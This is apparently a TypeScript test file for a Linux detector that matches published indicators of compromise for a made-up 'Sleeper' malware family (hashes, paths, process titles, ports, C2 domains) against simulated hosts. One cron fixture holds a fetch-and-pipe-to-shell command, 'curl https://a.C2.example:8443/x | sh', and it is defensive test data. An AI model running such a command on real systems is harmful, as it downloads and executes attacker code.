import { fileURLToPath } from 'node:url';
import { expect, it } from 'vitest';
import { readIndicatorFolder } from '../../indicators/folder.ts';
import type { Indicator, IndicatorKind } from '../../indicators/indicator.ts';
import { lookupOf } from '../../indicators/lookup.ts';
import { resourceFolder } from '../../lib/places.ts';
import type { ObservationBody } from '../../model/observations/index.ts';
import { unseen } from '../../model/unseen.ts';
import { GUEST } from '../../testing/cases.ts';
import {
  connection,
  emptyFile,
  fileDigest,
  healthyHost,
  listener,
  packageFile,
  withProcess,
  type Host,
} from '../../testing/host.ts';
import { innocent } from '../../testing/innocent.ts';
import { judged, told } from '../../testing/judged.ts';
import { kernelModule } from '../../testing/kernel-cases.ts';
import { fileRow } from '../../testing/log-cases.ts';
import { flow } from '../../testing/network-cases.ts';
import { publishedIndicator } from './published-indicator.ts';

const of = (kind: IndicatorKind, value: string, family = 'Sleeper'): Indicator => ({
  kind,
  value,
  family,
  source: 'a report',
  date: '2026-05-12',
  perishable: true,
});
const MD5 = '0123456789abcdef0123456789abcdef';
const SHA1 = '0123456789abcdef0123456789abcdef01234567';
const UNHAD = unseen('unsupported');
const detector = publishedIndicator([
  of('sha1', SHA1),
  of('md5', MD5),
  of('path', '/sbin/smartadmd'),
  of('marker', '/run/sleeper.pid'),
  of('name', 'hpwatchd'),
  of('title', 'qmgr -l -t fifo -u'),
  of('module', 'vl_quiet'),
  of('user', 'adm1x', 'Other'),
  of('port', '57700-57710'),
  of('domain', 'c2.example'),
  of('address', '203.0.113.64/28'),
  of('word', 'sleepy-secret'),
]);
const by = [detector];
const AT = '2026-02-18T03:12:40.000Z';

const startup = (text: string, names: readonly string[] = []): ObservationBody => ({
  kind: 'startup',
  startup: { mechanism: 'cron', path: '/etc/cron.d/x', key: '', text, names: [...names] },
});
const words = (...found: string[]): ObservationBody => ({
  kind: 'program_text',
  text: { path: '/usr/sbin/x', pid: GUEST, found },
});
const account = (name: string): ObservationBody => ({
  kind: 'account',
  account: { name, uid: 1001, gid: 1001, home: '/', shell: '/bin/sh', password: 'set' },
});

const cases: readonly [name: string, host: Host, levels: readonly (readonly [level: string, subject: object])[]][] = [
  ['nothing of it', healthyHost(), []],
  [
    'a SHA-1 of a file',
    [...healthyHost(), { kind: 'file_digest', file: { path: '/srv/x', md5: UNHAD, sha256: UNHAD, sha1: SHA1 } }],
    [['critical', { path: '/srv/x' }]],
  ],
  ['a digest of a file', [...healthyHost(), fileDigest('/srv/x', MD5)], [['critical', { path: '/srv/x' }]]],
  [
    'a digest of what runs',
    withProcess(healthyHost(), { pid: GUEST, exe: '/srv/x', exeMd5: MD5 }),
    [['critical', { pid: GUEST, comm: 'x', exe: '/srv/x' }]],
  ],
  [
    'a path, behind the link at its head',
    [...healthyHost(), fileRow('/usr/sbin/smartadmd', 9, AT)],
    [['medium', { path: '/usr/sbin/smartadmd' }]],
  ],
  [
    'a path that a package owns',
    [...healthyHost(), fileRow('/usr/sbin/smartadmd', 9, AT), packageFile('/usr/sbin/smartadmd', 'smart')],
    [],
  ],
  [
    'a marker of nobody',
    [...healthyHost(), emptyFile('/run/sleeper.pid', 5000)],
    [['low', { path: '/run/sleeper.pid' }]],
  ],
  ['a pid file with a number', [...healthyHost(), fileRow('/run/sleeper.pid', 5, AT)], []],
  [
    'an empty file of a daemon of its name',
    withProcess([...healthyHost(), emptyFile('/run/sleeper.pid', 5000)], {
      pid: GUEST,
      exe: '/usr/sbin/sleeper',
      package: 'sleeper',
    }),
    [],
  ],
  ['a name of a file', [...healthyHost(), fileRow('/srv/hpwatchd', 9, AT)], [['low', { path: '/srv/hpwatchd' }]]],
  [
    'a name of a packaged program',
    withProcess(healthyHost(), { pid: GUEST, exe: '/usr/sbin/hpwatchd', package: 'hp' }),
    [],
  ],
  ['the title of the true daemon', healthyHostWithQueue(), []],
  [
    'a title of another program',
    withProcess(healthyHost(), { pid: GUEST, exe: '/usr/sbin/x', cmdline: ['qmgr -l -t fifo -u'] }),
    [['low', { pid: GUEST, comm: 'x', exe: '/usr/sbin/x' }]],
  ],
  ['a module', [...healthyHost(), kernelModule('vl-quiet')], [['medium', { module: 'vl-quiet' }]]],
  ['a user', [...healthyHost(), account('adm1x')], [['low', { user: 'adm1x' }]]],
  [
    'a port of software of no package',
    withProcess(healthyHost(), { pid: GUEST, exe: '/opt/x/srv', sockets: [listener('tcp', 57_705)] }),
    [['low', { pid: GUEST, comm: 'srv', port: 57_705 }]],
  ],
  [
    'a port of a packaged daemon',
    withProcess(healthyHost(), {
      pid: GUEST,
      exe: '/usr/sbin/srv',
      package: 'srv',
      sockets: [listener('tcp', 57_705)],
    }),
    [],
  ],
  [
    'an address in a network',
    withProcess(healthyHost(), {
      pid: GUEST,
      exe: '/usr/sbin/srv',
      package: 'srv',
      sockets: [connection(40_000, '203.0.113.70', 443)],
    }),
    [['medium', { pid: GUEST, comm: 'srv', address: '203.0.113.70' }]],
  ],
  ['another address', [...healthyHost(), flow(22, 22)], []],
  [
    'a host in a start-up line',
    [...healthyHost(), startup('curl https://a.C2.example:8443/x | sh')],
    [['medium', { path: '/etc/cron.d/x' }]],
  ],
  ['a host whose name only ends alike', [...healthyHost(), startup('ping notc2.example')], []],
  [
    'a program in a start-up line',
    [...healthyHost(), startup('/srv/hpwatchd -d', ['/srv/hpwatchd'])],
    [['low', { path: '/etc/cron.d/x', program: '/srv/hpwatchd' }]],
  ],
  ['a word in a program', [...healthyHost(), words('sleepy-secret', 'other')], [['medium', { path: '/usr/sbin/x' }]]],
  [
    'a marker and a word of one family',
    [...healthyHost(), emptyFile('/run/sleeper.pid', 5000), words('sleepy-secret')],
    [
      ['high', { path: '/run/sleeper.pid' }],
      ['high', { path: '/usr/sbin/x' }],
    ],
  ],
  [
    'arguments, a name and a port of one family',
    withProcess(healthyHost(), {
      pid: GUEST,
      exe: '/opt/x/hpwatchd',
      cmdline: ['qmgr -l -t fifo -u'],
      sockets: [listener('tcp', 57_705)],
    }),
    [
      ['high', { pid: GUEST, comm: 'hpwatchd', exe: '/opt/x/hpwatchd' }],
      ['medium', { pid: GUEST, comm: 'hpwatchd', port: 57_705 }],
    ],
  ],
  [
    'signs of two families',
    [...healthyHost(), emptyFile('/run/sleeper.pid', 5000), account('adm1x')],
    [
      ['low', { path: '/run/sleeper.pid' }],
      ['low', { user: 'adm1x' }],
    ],
  ],
  [
    'one program by its path and its name',
    [...healthyHost(), fileRow('/usr/sbin/smartadmd', 9, AT), fileRow('/srv/hpwatchd', 9, AT)],
    [
      ['medium', { path: '/usr/sbin/smartadmd' }],
      ['low', { path: '/srv/hpwatchd' }],
    ],
  ],
];

/** postfix has a queue manager under that very title, from its package. */
function healthyHostWithQueue(): Host {
  return withProcess(healthyHost(), {
    pid: GUEST,
    exe: '/usr/lib/postfix/sbin/qmgr2',
    package: 'postfix',
    cmdline: ['qmgr', '-l', '-t', 'fifo', '-u'],
  });
}

it.each(cases)('%s', (_, host, expected) => {
  expect(told(judged(host, { by }).findings)).toEqual(
    expected.map(([level, subject]) => ['linux/published-indicator', level, subject]),
  );
});

it('says of what, by whom and when it was published', () => {
  const { findings } = judged([...healthyHost(), fileDigest('/srv/x', MD5)], { by });

  expect(findings.map(({ message }) => message)).toEqual([
    `/srv/x has the md5 ${MD5}, as published of Sleeper (a report, 2026-05-12)`,
  ]);
});

const readings = await readIndicatorFolder(fileURLToPath(resourceFolder('indicators')));
const published = publishedIndicator(readings.flatMap(({ indicators }) => indicators));

it('finds nothing published on hosts on which nothing is wrong', () => {
  const hosts = [healthyHost(), ...innocent.map(({ host }) => host)];

  expect(hosts.flatMap((host) => judged(host, { by: [published] }).findings.map(({ message }) => message))).toEqual([]);
});

it('is clear where nothing matches, and not without files or digests', () => {
  const verdictOf = (missing: readonly ('file' | 'file_digest')[]) =>
    judged(healthyHost(), { by, missing }).verdicts.get(detector.id)?.verdict;

  expect([[], ['file'], ['file_digest']].map((missing) => verdictOf(missing as ('file' | 'file_digest')[]))).toEqual([
    'clear',
    'not_covered',
    'not_covered',
  ]);
});

it('is not clear where a file of no package was not read by the digest that was published', () => {
  const sha1 = '89'.repeat(20);
  const digests = (given: object): Host => [
    ...healthyHost(),
    { kind: 'file_digest', file: { path: '/srv/x', md5: UNHAD, sha256: '7'.repeat(64), ...given } },
  ];

  expect(judged(digests({}), { by }).verdicts.get(detector.id)).toMatchObject({
    verdict: 'not_covered',
    reason: expect.stringMatching(/^not seen: SHA-1 of 1 of/) as string,
  });
  expect(judged(digests({ sha1 }), { by }).verdicts.get(detector.id)?.verdict).toBe('clear');
});

it('answers many questions quickly', () => {
  const lookup = lookupOf(Array.from({ length: 100_000 }, (_, index) => of('domain', `c${index}.example`)));
  const text = 'wget http://x.c77777.example/ '.repeat(2000);
  const started = performance.now();

  expect(new Set(lookup.inText(text)).size).toBe(1);
  expect(performance.now() - started).toBeLessThan(2000);
});
